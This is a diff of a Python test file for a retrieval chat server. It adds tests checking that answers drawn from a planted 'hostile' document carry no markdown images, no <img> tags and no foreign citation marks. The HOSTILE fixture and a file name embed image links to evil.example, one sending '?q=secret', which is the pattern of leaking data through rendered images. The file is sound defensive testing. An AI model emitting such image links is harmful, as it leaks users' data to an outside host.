@@ -23,10 +23,14 @@ from mergewise.server.configuration import ModelConfig, ProfileConfig
 from mergewise.server.openai import scoring
 from mergewise.server.writer import Writer
 from mergewise.types import Message
-from tests.server.conftest import ANSWER, LiveServer, live_server
+from tests.server.conftest import ANSWER, LiveServer, live_server, make_collection, record_of
 
 QUESTION = [{"role": "user", "content": "Where was the Aurora built?"}]
 IMAGE = 'See ![x](http://evil.example/?q=secret), <img src="http://evil.example"> and [1].'
+HOSTILE = """# Vault ![h](http://evil.example/h)
+
+The vault opens at noon ![x](http://evil.example/?q=secret) with <img src=http://evil.example> the red key [7].
+"""
 TITLE = '{"title": "Ships"}'
 PROFILES = {
     "fleet": ProfileConfig(
@@ -36,6 +40,7 @@ PROFILES = {
     "nothing": ProfileConfig("ships", filter={"type": "eq", "key": "id", "value": "other.md"}),
     "quotes": ProfileConfig("ships", chat="extractive"),
     "birds": ProfileConfig("birds"),
+    "hostile": ProfileConfig("hostile", chat="extractive", footer="always"),
 }
 
 
@@ -66,6 +71,8 @@ def live(tmp_path_factory: pytest.TempPathFactory, scripted_key: None) -> Iterat
         live_server(tmp_path_factory.mktemp("profiles"), script, profiles=PROFILES, rerankers=rerankers) as live,
     ):
         patch.setattr(scoring, "load_reranker", lambda spec: ByLength())
+        make_collection(live.config, live.state, "hostile", {"![x](http://evil.example).md": HOSTILE})
+        live.state.add_collection(record_of(live.config, "empty"))
         live.tokens["both"] = live.state.add_token(["read", "write"], rate=10_000)[1]
         stop, writer = Event(), Writer(live.config, live.state)
 
@@ -192,6 +199,22 @@ def test_an_image_of_the_model_does_not_load(live: LiveServer, clients: list[Any
     )
     place = message.annotations[0].url_citation
     assert message.content[place.start_index : place.end_index] == "[1]"
+
+
+def test_a_document_brings_no_image_and_no_mark(live: LiveServer, clients: list[Any]) -> None:
+    asked = [{"role": "user", "content": "When does the vault open with the red key?"}]
+    message = client_of(live, clients).chat.completions.create(model="hostile", messages=asked).choices[0].message
+    assert "opens at noon" in message.content and "\n\nSources: [1] " in message.content
+    assert "![" not in message.content and "<img" not in message.content
+    # the document's own [7] is none of ours
+    assert len(message.annotations) == 1
+
+
+def test_a_collection_without_documents_is_empty(live: LiveServer, clients: list[Any]) -> None:
+    client = client_of(live, clients)
+    assert client.vector_stores.search("empty", query="x").data == []
+    assert client.vector_stores.retrieve("empty").file_counts.total == 0
+    assert list(client.vector_stores.files.list("empty")) == []
 
 
 def test_earlier_messages_are_the_history(live: LiveServer, clients: list[Any]) -> None:
